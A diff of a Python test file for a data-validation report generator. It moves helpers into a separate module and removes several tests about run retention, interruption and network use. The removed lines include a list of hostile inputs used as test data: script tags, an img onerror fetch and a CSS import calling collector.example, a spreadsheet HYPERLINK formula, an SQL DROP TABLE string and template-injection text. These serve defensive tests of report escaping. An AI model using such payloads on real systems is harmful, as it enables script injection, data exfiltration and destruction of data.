@@ -5,142 +5,19 @@ from __future__ import annotations
 import re
 import shutil
 import subprocess
-import sys
-import textwrap
 from collections.abc import Iterator
-from datetime import UTC, datetime, timedelta
-from html.parser import HTMLParser
 from pathlib import Path
-from typing import Any
 from urllib.parse import unquote, urlsplit
 
 import pytest
+from holding import HOSTILE, Page, open_warehouse, reached, run
 
-from engine import validation_pages
-from engine.errors import ContraflowError
-from engine.expectations import Outcome, Suite, hold
-from engine.settings import Settings
-from engine.warehouse import Warehouse
+from engine.expectations import Outcome
 
-HOSTILE = (
-    "<script>document.title = 'taken'</script>",
-    '"><img src=x onerror="fetch(\'http://collector.example/\')">',
-    "</td></table></style><style>@import url(http://collector.example/a.css)</style>",
-    '=HYPERLINK("http://collector.example/","pay")',
-    "'; DROP TABLE declarations; --",
-    "$text ${params} %(x)s {{ 7 * 7 }} {% raw %}",
-    "http://collector.example/pixel.gif",
-    "javascript:alert(1)",
-    "<!-- --><![CDATA[ & &lt;b&gt;",
-    "\u202eright to left\x00\x1b[31m\r\nline",
-)
 ALLOWED = {
     *("html", "head", "meta", "title", "style", "body", "nav", "footer", "h1", "h2", "p", "a", "label", "input", "div"),
     *("table", "thead", "tbody", "tr", "th", "td", "span", "strong", "br", "code", "details", "summary"),
 }
-REFERRING = {
-    "src",
-    "href",
-    "srcset",
-    "action",
-    "formaction",
-    "data",
-    "poster",
-    "background",
-    "ping",
-    "cite",
-    "xlink:href",
-}
-
-
-class Page(HTMLParser):
-    """What a browser would make of a page: its elements, references and text."""
-
-    def __init__(self, path: Path) -> None:
-        super().__init__()
-        self.path = path
-        self.source = path.read_text(encoding="utf-8")
-        self.tags: set[str] = set()
-        self.names: set[str] = set()
-        self.references: list[str] = []
-        self.text = ""
-        self.feed(self.source)
-        self.close()
-
-    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
-        self.tags.add(tag)
-        self.names.update(name for name, _ in attrs)
-        self.references += [value or "" for name, value in attrs if name in REFERRING]
-
-    def handle_data(self, data: str) -> None:
-        self.text += data
-
-
-def expect(kind: str, column: str, description: str, **more: Any) -> Any:
-    import great_expectations.expectations as gxe  # after engine, which tells it to send no statistics
-
-    return getattr(gxe, kind)(column=column, description=description, **{"severity": "warning", **more})
-
-
-def expect_null(column: str, description: str, **more: Any) -> Any:
-    return expect("ExpectColumnValuesToBeNull", column, description, **more)
-
-
-def suites() -> list[Suite]:
-    """A suite with an expectation that is missed, one that is tolerated and one that is met, and a critical one."""
-    declarations = [
-        expect_null("gross_covers_net", "The gross mass is at least the net mass <b>always</b>.", mostly=0.99),
-        expect_null("unusable_value", "A value is a number.", mostly=0.5),
-        expect("ExpectColumnValuesToNotBeNull", "authority", "Every row has an authority.", mostly=0.95),
-    ]
-    share = expect(
-        "ExpectColumnValuesToBeBetween",
-        "share_in_quarantine",
-        "No file has more than 5% of its rows in quarantine.",
-        max_value=0.05,
-        severity="critical",
-    )
-    beside = {"Files": "validate.file_shares", "Why": "validate.quarantine_reasons"}
-    return [Suite("declarations", "validate", declarations), Suite("file_shares", "validate", [share], beside)]
-
-
-def run(warehouse: Warehouse, number: int, run_id: str | None = None) -> list[Outcome]:
-    began = datetime(2026, 3, 1, 6, tzinfo=UTC) + timedelta(days=number)
-    return hold(warehouse, run_id or f"run-{number}", began, suites(), warehouse.folder / "validation")
-
-
-def open_warehouse(folder: Path, **settings: int) -> Warehouse:
-    """A warehouse with evidence of a hundred declarations, ten of them hostile."""
-    warehouse = Warehouse(folder, Settings(**settings))
-    warehouse.clear("validate")
-    warehouse.con.execute(
-        """
-        CREATE TABLE validate.declarations AS
-        SELECT 'CN' AS authority, CASE WHEN i < 10 THEN $hostile[i + 1] END AS gross_covers_net,
-               CASE WHEN i < 10 THEN $hostile[i + 1] END AS unusable_value
-        FROM range(100) AS t(i)
-        """,
-        {"hostile": list(HOSTILE)},
-    )
-    warehouse.con.execute(
-        """
-        CREATE TABLE validate.file_shares AS
-        SELECT 1 AS file_no, $name AS source_file, 100 AS rows_read, 10 AS rows_refused,
-               0.1::DOUBLE AS share_in_quarantine
-        """,
-        {"name": "C:\\in\\" + HOSTILE[0]},
-    )
-    warehouse.con.execute(
-        """
-        CREATE TABLE validate.quarantine AS
-        SELECT 'declarations' AS table_name, 'a.csv' AS source_file, 2 + i AS line, true AS in_scope,
-               concat('value ''', $hostile[i + 1], ''' is not a number above zero') AS reason
-        FROM range(10) AS t(i)
-        """,
-        {"hostile": list(HOSTILE)},
-    )
-    warehouse.make("validate.quarantine_reasons")
-    return warehouse
 
 
 @pytest.fixture(scope="module")
@@ -171,10 +48,8 @@ def test_no_page_refers_to_another_server(held: tuple[Path, list[Outcome]]) -> N
 
 
 def test_every_page_can_be_reached(held: tuple[Path, list[Outcome]]) -> None:
-    index = Page(held[0] / "index.html")
-    reached = {held[0] / unquote(reference) for reference in index.references}
-    assert reached == set(held[0].rglob("runs/*/*.html"))
-    assert len(reached) == 4
+    assert reached(held[0]) == set(held[0].rglob("runs/*/*.html"))
+    assert len(reached(held[0])) == 4
 
 
 def test_nothing_declared_becomes_markup(held: tuple[Path, list[Outcome]]) -> None:
@@ -234,115 +109,6 @@ def test_the_outcomes_agree_with_the_pages(held: tuple[Path, list[Outcome]]) -> 
         True,
     ]
     assert outcomes["gross_covers_net"].checked == 100
-
-
-def test_runs_beyond_the_last_are_forgotten(tmp_path: Path) -> None:
-    with open_warehouse(tmp_path, validation_runs=2) as warehouse:
-        for number in (1, 2, 3):
-            run(warehouse, number)
-    folder = tmp_path / "validation"
-    assert sorted(path.name for path in (folder / "runs").iterdir()) == ["run-2", "run-3"]
-    assert {path.parent.parent.name for path in folder.glob("results/*/*/*/*.json")} == {"run-2", "run-3"}
-    assert "run-1" not in Page(folder / "index.html").text
-    assert not list(folder.rglob("*.draft"))
-    test_every_page_can_be_reached((folder, []))
-
-
-def test_a_run_whose_id_reads_like_a_time_zone_has_its_page(tmp_path: Path) -> None:
-    with open_warehouse(tmp_path) as warehouse:
-        run(warehouse, 1, "20261123T232004Z-9724")
-    assert (tmp_path / "validation/runs/20261123T232004Z-9724/declarations.html").is_file()
-
-
-def test_what_an_interrupted_run_left_does_not_stop_the_next(tmp_path: Path) -> None:
-    with open_warehouse(tmp_path) as warehouse:
-        run(warehouse, 1)
-        for stored in (tmp_path / "validation/results").glob("*/run-1/*/*.json"):
-            stored.write_text('{"success": tr')
-        run(warehouse, 2)
-        shutil.rmtree(tmp_path / "validation/runs/run-2")
-        run(warehouse, 3)
-    index = Page(tmp_path / "validation/index.html")
-    assert "run-2" in index.text
-    assert {reference.split("/")[1] for reference in index.references} == {"run-3"}
-
-
-def test_the_index_stays_whole_while_the_next_is_made(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    def fail(*_: object) -> str:
-        raise RuntimeError("no disk left")
-
-    with open_warehouse(tmp_path) as warehouse:
-        run(warehouse, 1)
-        before = (tmp_path / "validation/index.html").read_bytes()
-        monkeypatch.setattr(validation_pages, "_index_page", fail)
-        with pytest.raises(RuntimeError):
-            run(warehouse, 2)
-    assert (tmp_path / "validation/index.html").read_bytes() == before
-
-
-def test_a_table_of_the_same_name_elsewhere_does_not_confuse(tmp_path: Path) -> None:
-    with open_warehouse(tmp_path) as warehouse:
-        assert warehouse.count("main.declarations") == 0
-        assert {outcome.checked for outcome in run(warehouse, 1) if outcome.table_name == "declarations"} == {100}
-
-
-def test_an_expectation_that_cannot_be_evaluated_is_a_fault(tmp_path: Path) -> None:
-    expectation = expect_null("nowhere", "It is nowhere.")
-    with open_warehouse(tmp_path) as warehouse, pytest.raises(ContraflowError, match=r"It is nowhere.*declarations"):
-        hold(warehouse, "run-1", datetime.now(UTC), [Suite("declarations", "validate", [expectation])], tmp_path / "v")
-
-
-def test_many_broken_rows_make_no_big_result(tmp_path: Path) -> None:
-    expectation = expect_null("words", "There are no words.")
-    with open_warehouse(tmp_path) as warehouse:
-        warehouse.con.execute("CREATE TABLE validate.much AS SELECT 'word ' || i AS words FROM range(200_000) AS t(i)")
-        outcomes = hold(warehouse, "run", datetime.now(UTC), [Suite("much", "validate", [expectation])], tmp_path / "v")
-    assert outcomes[0].unexpected_count == 200_000
-    (stored,) = (tmp_path / "v/results").rglob("*.json")
-    assert stored.stat().st_size < 10_000
-    assert len(set(re.findall(r"word \d+", Page(tmp_path / "v/runs/run/much.html").text))) == 20
-
-
-# Great Expectations imports sre_constants and sre_parse, which Python will drop.
-SRE = "module 'sre_"
-
-
-def test_validation_opens_no_socket_warns_of_nothing_and_says_nothing(tmp_path: Path) -> None:
-    script = """
-        import gc, logging, pathlib, socket, sys
-
-        opened = []
-
-        def refuse(*args, **_):
-            opened.append(args)
-            raise OSError("no network")
-
-        socket.socket.connect = socket.socket.connect_ex = socket.create_connection = socket.getaddrinfo = refuse
-        logging.basicConfig(level=logging.INFO)
-        from tests.test_validation_pages import open_warehouse, run
-
-        with open_warehouse(pathlib.Path(sys.argv[1])) as warehouse:
-            run(warehouse, 1)
-        gc.collect()  # no connection may be left to complain that the warehouse is closed
-        assert not opened, opened
-    """
-    done = subprocess.run(
-        [
-            sys.executable,
-            "-W",
-            "error",
-            "-W",
-            f"ignore:{SRE}:DeprecationWarning",
-            "-c",
-            textwrap.dedent(script),
-            str(tmp_path),
-        ],
-        capture_output=True,
-        text=True,
-        cwd=Path(__file__).parent.parent,
-        check=False,
-    )
-    assert (done.returncode, done.stdout, done.stderr) == (0, "", "")
 
 
 CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
